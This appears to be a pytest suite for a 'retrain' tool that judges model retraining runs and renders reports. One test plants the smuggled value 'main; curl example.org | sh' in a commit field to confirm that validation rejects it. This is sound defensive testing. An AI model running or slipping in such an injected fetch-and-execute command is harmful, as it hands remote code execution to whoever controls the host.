"""The report as files: of this folder's run, and of facts that need no trust."""

import json
from pathlib import Path

import pytest

from retrain.report.judgement import UNLANDED
from tests.conftest import Run
from tests.toys import toys
from tests.toys.toys import BETTER


def judged(run: Run, toy: Path, code: int = 0) -> str:
    result = run("retrain", "judge", cwd=toy)
    assert result.returncode == code, result.stderr
    return (toy / "report.md").read_text()


@pytest.mark.smoke
def test_a_run_is_built_judged_and_reported_in_one_command(toy: Path, run: Run) -> None:
    (toy / "params.yaml").write_text(BETTER)
    text = judged(run, toy)
    assert text.splitlines()[0].endswith("toy: promote")
    assert "`quality` `1.0` → `1.5`" in text
    assert f"make judge BASE={toys.tip(toy, run, 'HEAD')[:7]}" in text
    again = (toy / "report.json").read_text()
    (toy / "report.md").unlink()
    toys.do(run, toy, "retrain report --from report.json")
    assert (toy / "report.md").read_text() == text
    assert json.loads((toy / "report.json").read_text()) == json.loads(again)


@pytest.mark.slow
def test_a_policy_that_the_base_cannot_lend_judges_and_the_report_says_so_once(
    toy: Path, run: Run
) -> None:
    text = (toy / "policy.yaml").read_text()
    old = text.replace("min_rows: 100", "min_rows: many")
    toys.change(toy, run, "an older policy", policy__yaml=old)
    toys.change(toy, run, "better", policy__yaml=text, params__yaml=BETTER)
    toys.do(run, toy, "retrain judge --base HEAD~1")
    report = (toy / "report.md").read_text()
    assert "cannot be read here" in report
    assert "The policy changes too, and this report goes by the new one." in report
    assert "the old one" not in report


def test_where_no_run_is_needed_nothing_runs(toy: Path, run: Run) -> None:
    text = judged(run, toy)
    assert text.splitlines()[0].endswith("toy: unchanged")
    assert not (toy / "models").exists()


@pytest.mark.slow
def test_what_a_branch_brings_and_is_not_believed_is_named(toy: Path, run: Run) -> None:
    toys.do(run, toy, "git checkout -q -b mine")
    lock = (toy / "dvc.lock").read_text()
    toys.change(toy, run, "mine", dvc__lock=lock.replace("size: ", "size: 1"), params__yaml=BETTER)
    assert "committed here and not believed: dvc.lock" in judged(run, toy).replace("&#46;", ".")


@pytest.mark.slow
def test_a_failed_run_is_reported_with_its_sentence(toy: Path, run: Run) -> None:
    (toy / "params.yaml").write_text("quality: high\n")
    text = judged(run, toy, code=1)
    assert text.splitlines()[0].endswith("toy: failed")
    assert "stage make failed" in text


@pytest.mark.slow
def test_data_that_break_the_contract_are_reported_and_block(toy: Path, run: Run) -> None:
    failure = {"severity": "critical", "file": "data/2013-01.parquet", "column": "signal",
               "expected": "a number", "found": "a word", "remedy": "fix it", "rows": [{"row": "3"}]}  # fmt: skip
    report = {"success": False, "rows": {"2013-01": 560}, "failures": [failure]}
    make = (toy / "src/make.py").read_text()
    broken = f"    pathlib.Path('reports').mkdir(exist_ok=True)\n    pathlib.Path('reports/validation.json').write_text('''{json.dumps(report)}''')\n    raise SystemExit(1)\n"
    (toy / "src/make.py").write_text(make.replace("def main():\n", f"def main():\n{broken}"))
    text = judged(run, toy, code=1)
    assert text.splitlines()[0].endswith("block, the data break their contract")
    assert "a word" in text
    gated = run("retrain", "gate", cwd=toy)
    assert gated.returncode == 1
    assert "data/2013-01.parquet: a number: a word" in gated.stdout


@pytest.mark.slow
def test_a_verdict_against_another_base_is_not_reported(toy: Path, run: Run) -> None:
    (toy / "params.yaml").write_text(BETTER)
    judged(run, toy)
    result = run("retrain", "report", "--base", "0" * 40, cwd=toy)
    assert result.returncode == 1
    assert result.stderr == (
        "error: reports/verdict.json is of another model or base; first: retrain gate\n"
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (None, "facts.json: no such file; check the path"),
        ("words", "facts.json: 'all of it': Invalid JSON"),
        ("{}", "facts.json: 'artifact': Field required"),
        ('{"artifact": 3}', "facts.json: 'artifact': Input should be a valid string"),
        (
            '{"artifact": "' + "x" * 1001 + '"}',
            "facts.json: 'artifact': String should have at most",
        ),
        ("[" * 100_000, "facts.json: 'all of it': Invalid JSON"),
        (" " * 5_000_001, "facts.json is larger than 5,000,000 bytes: no facts of a run"),
    ],
)
def test_facts_that_are_none_are_refused_in_a_sentence(
    tmp_path: Path, run: Run, text: str | None, message: str
) -> None:
    if text is not None:
        (tmp_path / "facts.json").write_text(text)
    result = run("retrain", "report", "--from", "facts.json", cwd=tmp_path)
    assert result.returncode == 1
    assert message in result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert not (tmp_path / "report.md").exists()


@pytest.mark.slow
def test_a_base_that_has_not_landed_is_named(toy: Path, run: Run) -> None:
    toys.change(toy, run, "better", params__yaml="quality: 1.5\n")
    toys.do(run, toy, "git push -q", "git checkout -qb mine")
    toys.change(toy, run, "words", README__md="more\n")
    toys.do(run, toy, "retrain judge")
    notes = json.loads((toy / "report.json").read_text())["notes"]
    assert notes == [UNLANDED]


def test_no_facts_hold_a_command(toy: Path, run: Run) -> None:
    run("retrain", "judge", cwd=toy)
    facts = json.loads((toy / "report.json").read_text())
    facts["built"]["commit"] = "main; curl example.org | sh"
    (toy / "report.json").write_text(json.dumps(facts))
    result = run("retrain", "report", "--from", "report.json", cwd=toy)
    assert result.returncode == 1
    assert "'built.commit': String should match pattern" in result.stderr


@pytest.mark.slow
def test_what_is_not_committed_is_not_to_be_had_elsewhere(toy: Path, run: Run) -> None:
    (toy / "notes.txt").write_text("mine\n")
    toys.do(run, toy, "retrain judge")
    report = (toy / "report.md").read_text()
    assert "**Reproduce it, with the files that are not committed:**" in report
    assert "git checkout" not in report


def test_where_nothing_is_judged_a_program_reads_so(toy: Path, run: Run) -> None:
    assert json.loads(toys.do(run, toy, "retrain judge --json"))["verdict"] is None


@pytest.mark.slow
def test_facts_with_a_key_more_are_refused(toy: Path, run: Run) -> None:
    judged(run, toy)
    facts = json.loads((toy / "report.json").read_text()) | {"execute": "this"}
    (toy / "report.json").write_text(json.dumps(facts))
    result = run("retrain", "report", "--from", "report.json", cwd=toy)
    assert "'execute': Extra inputs are not permitted" in result.stderr
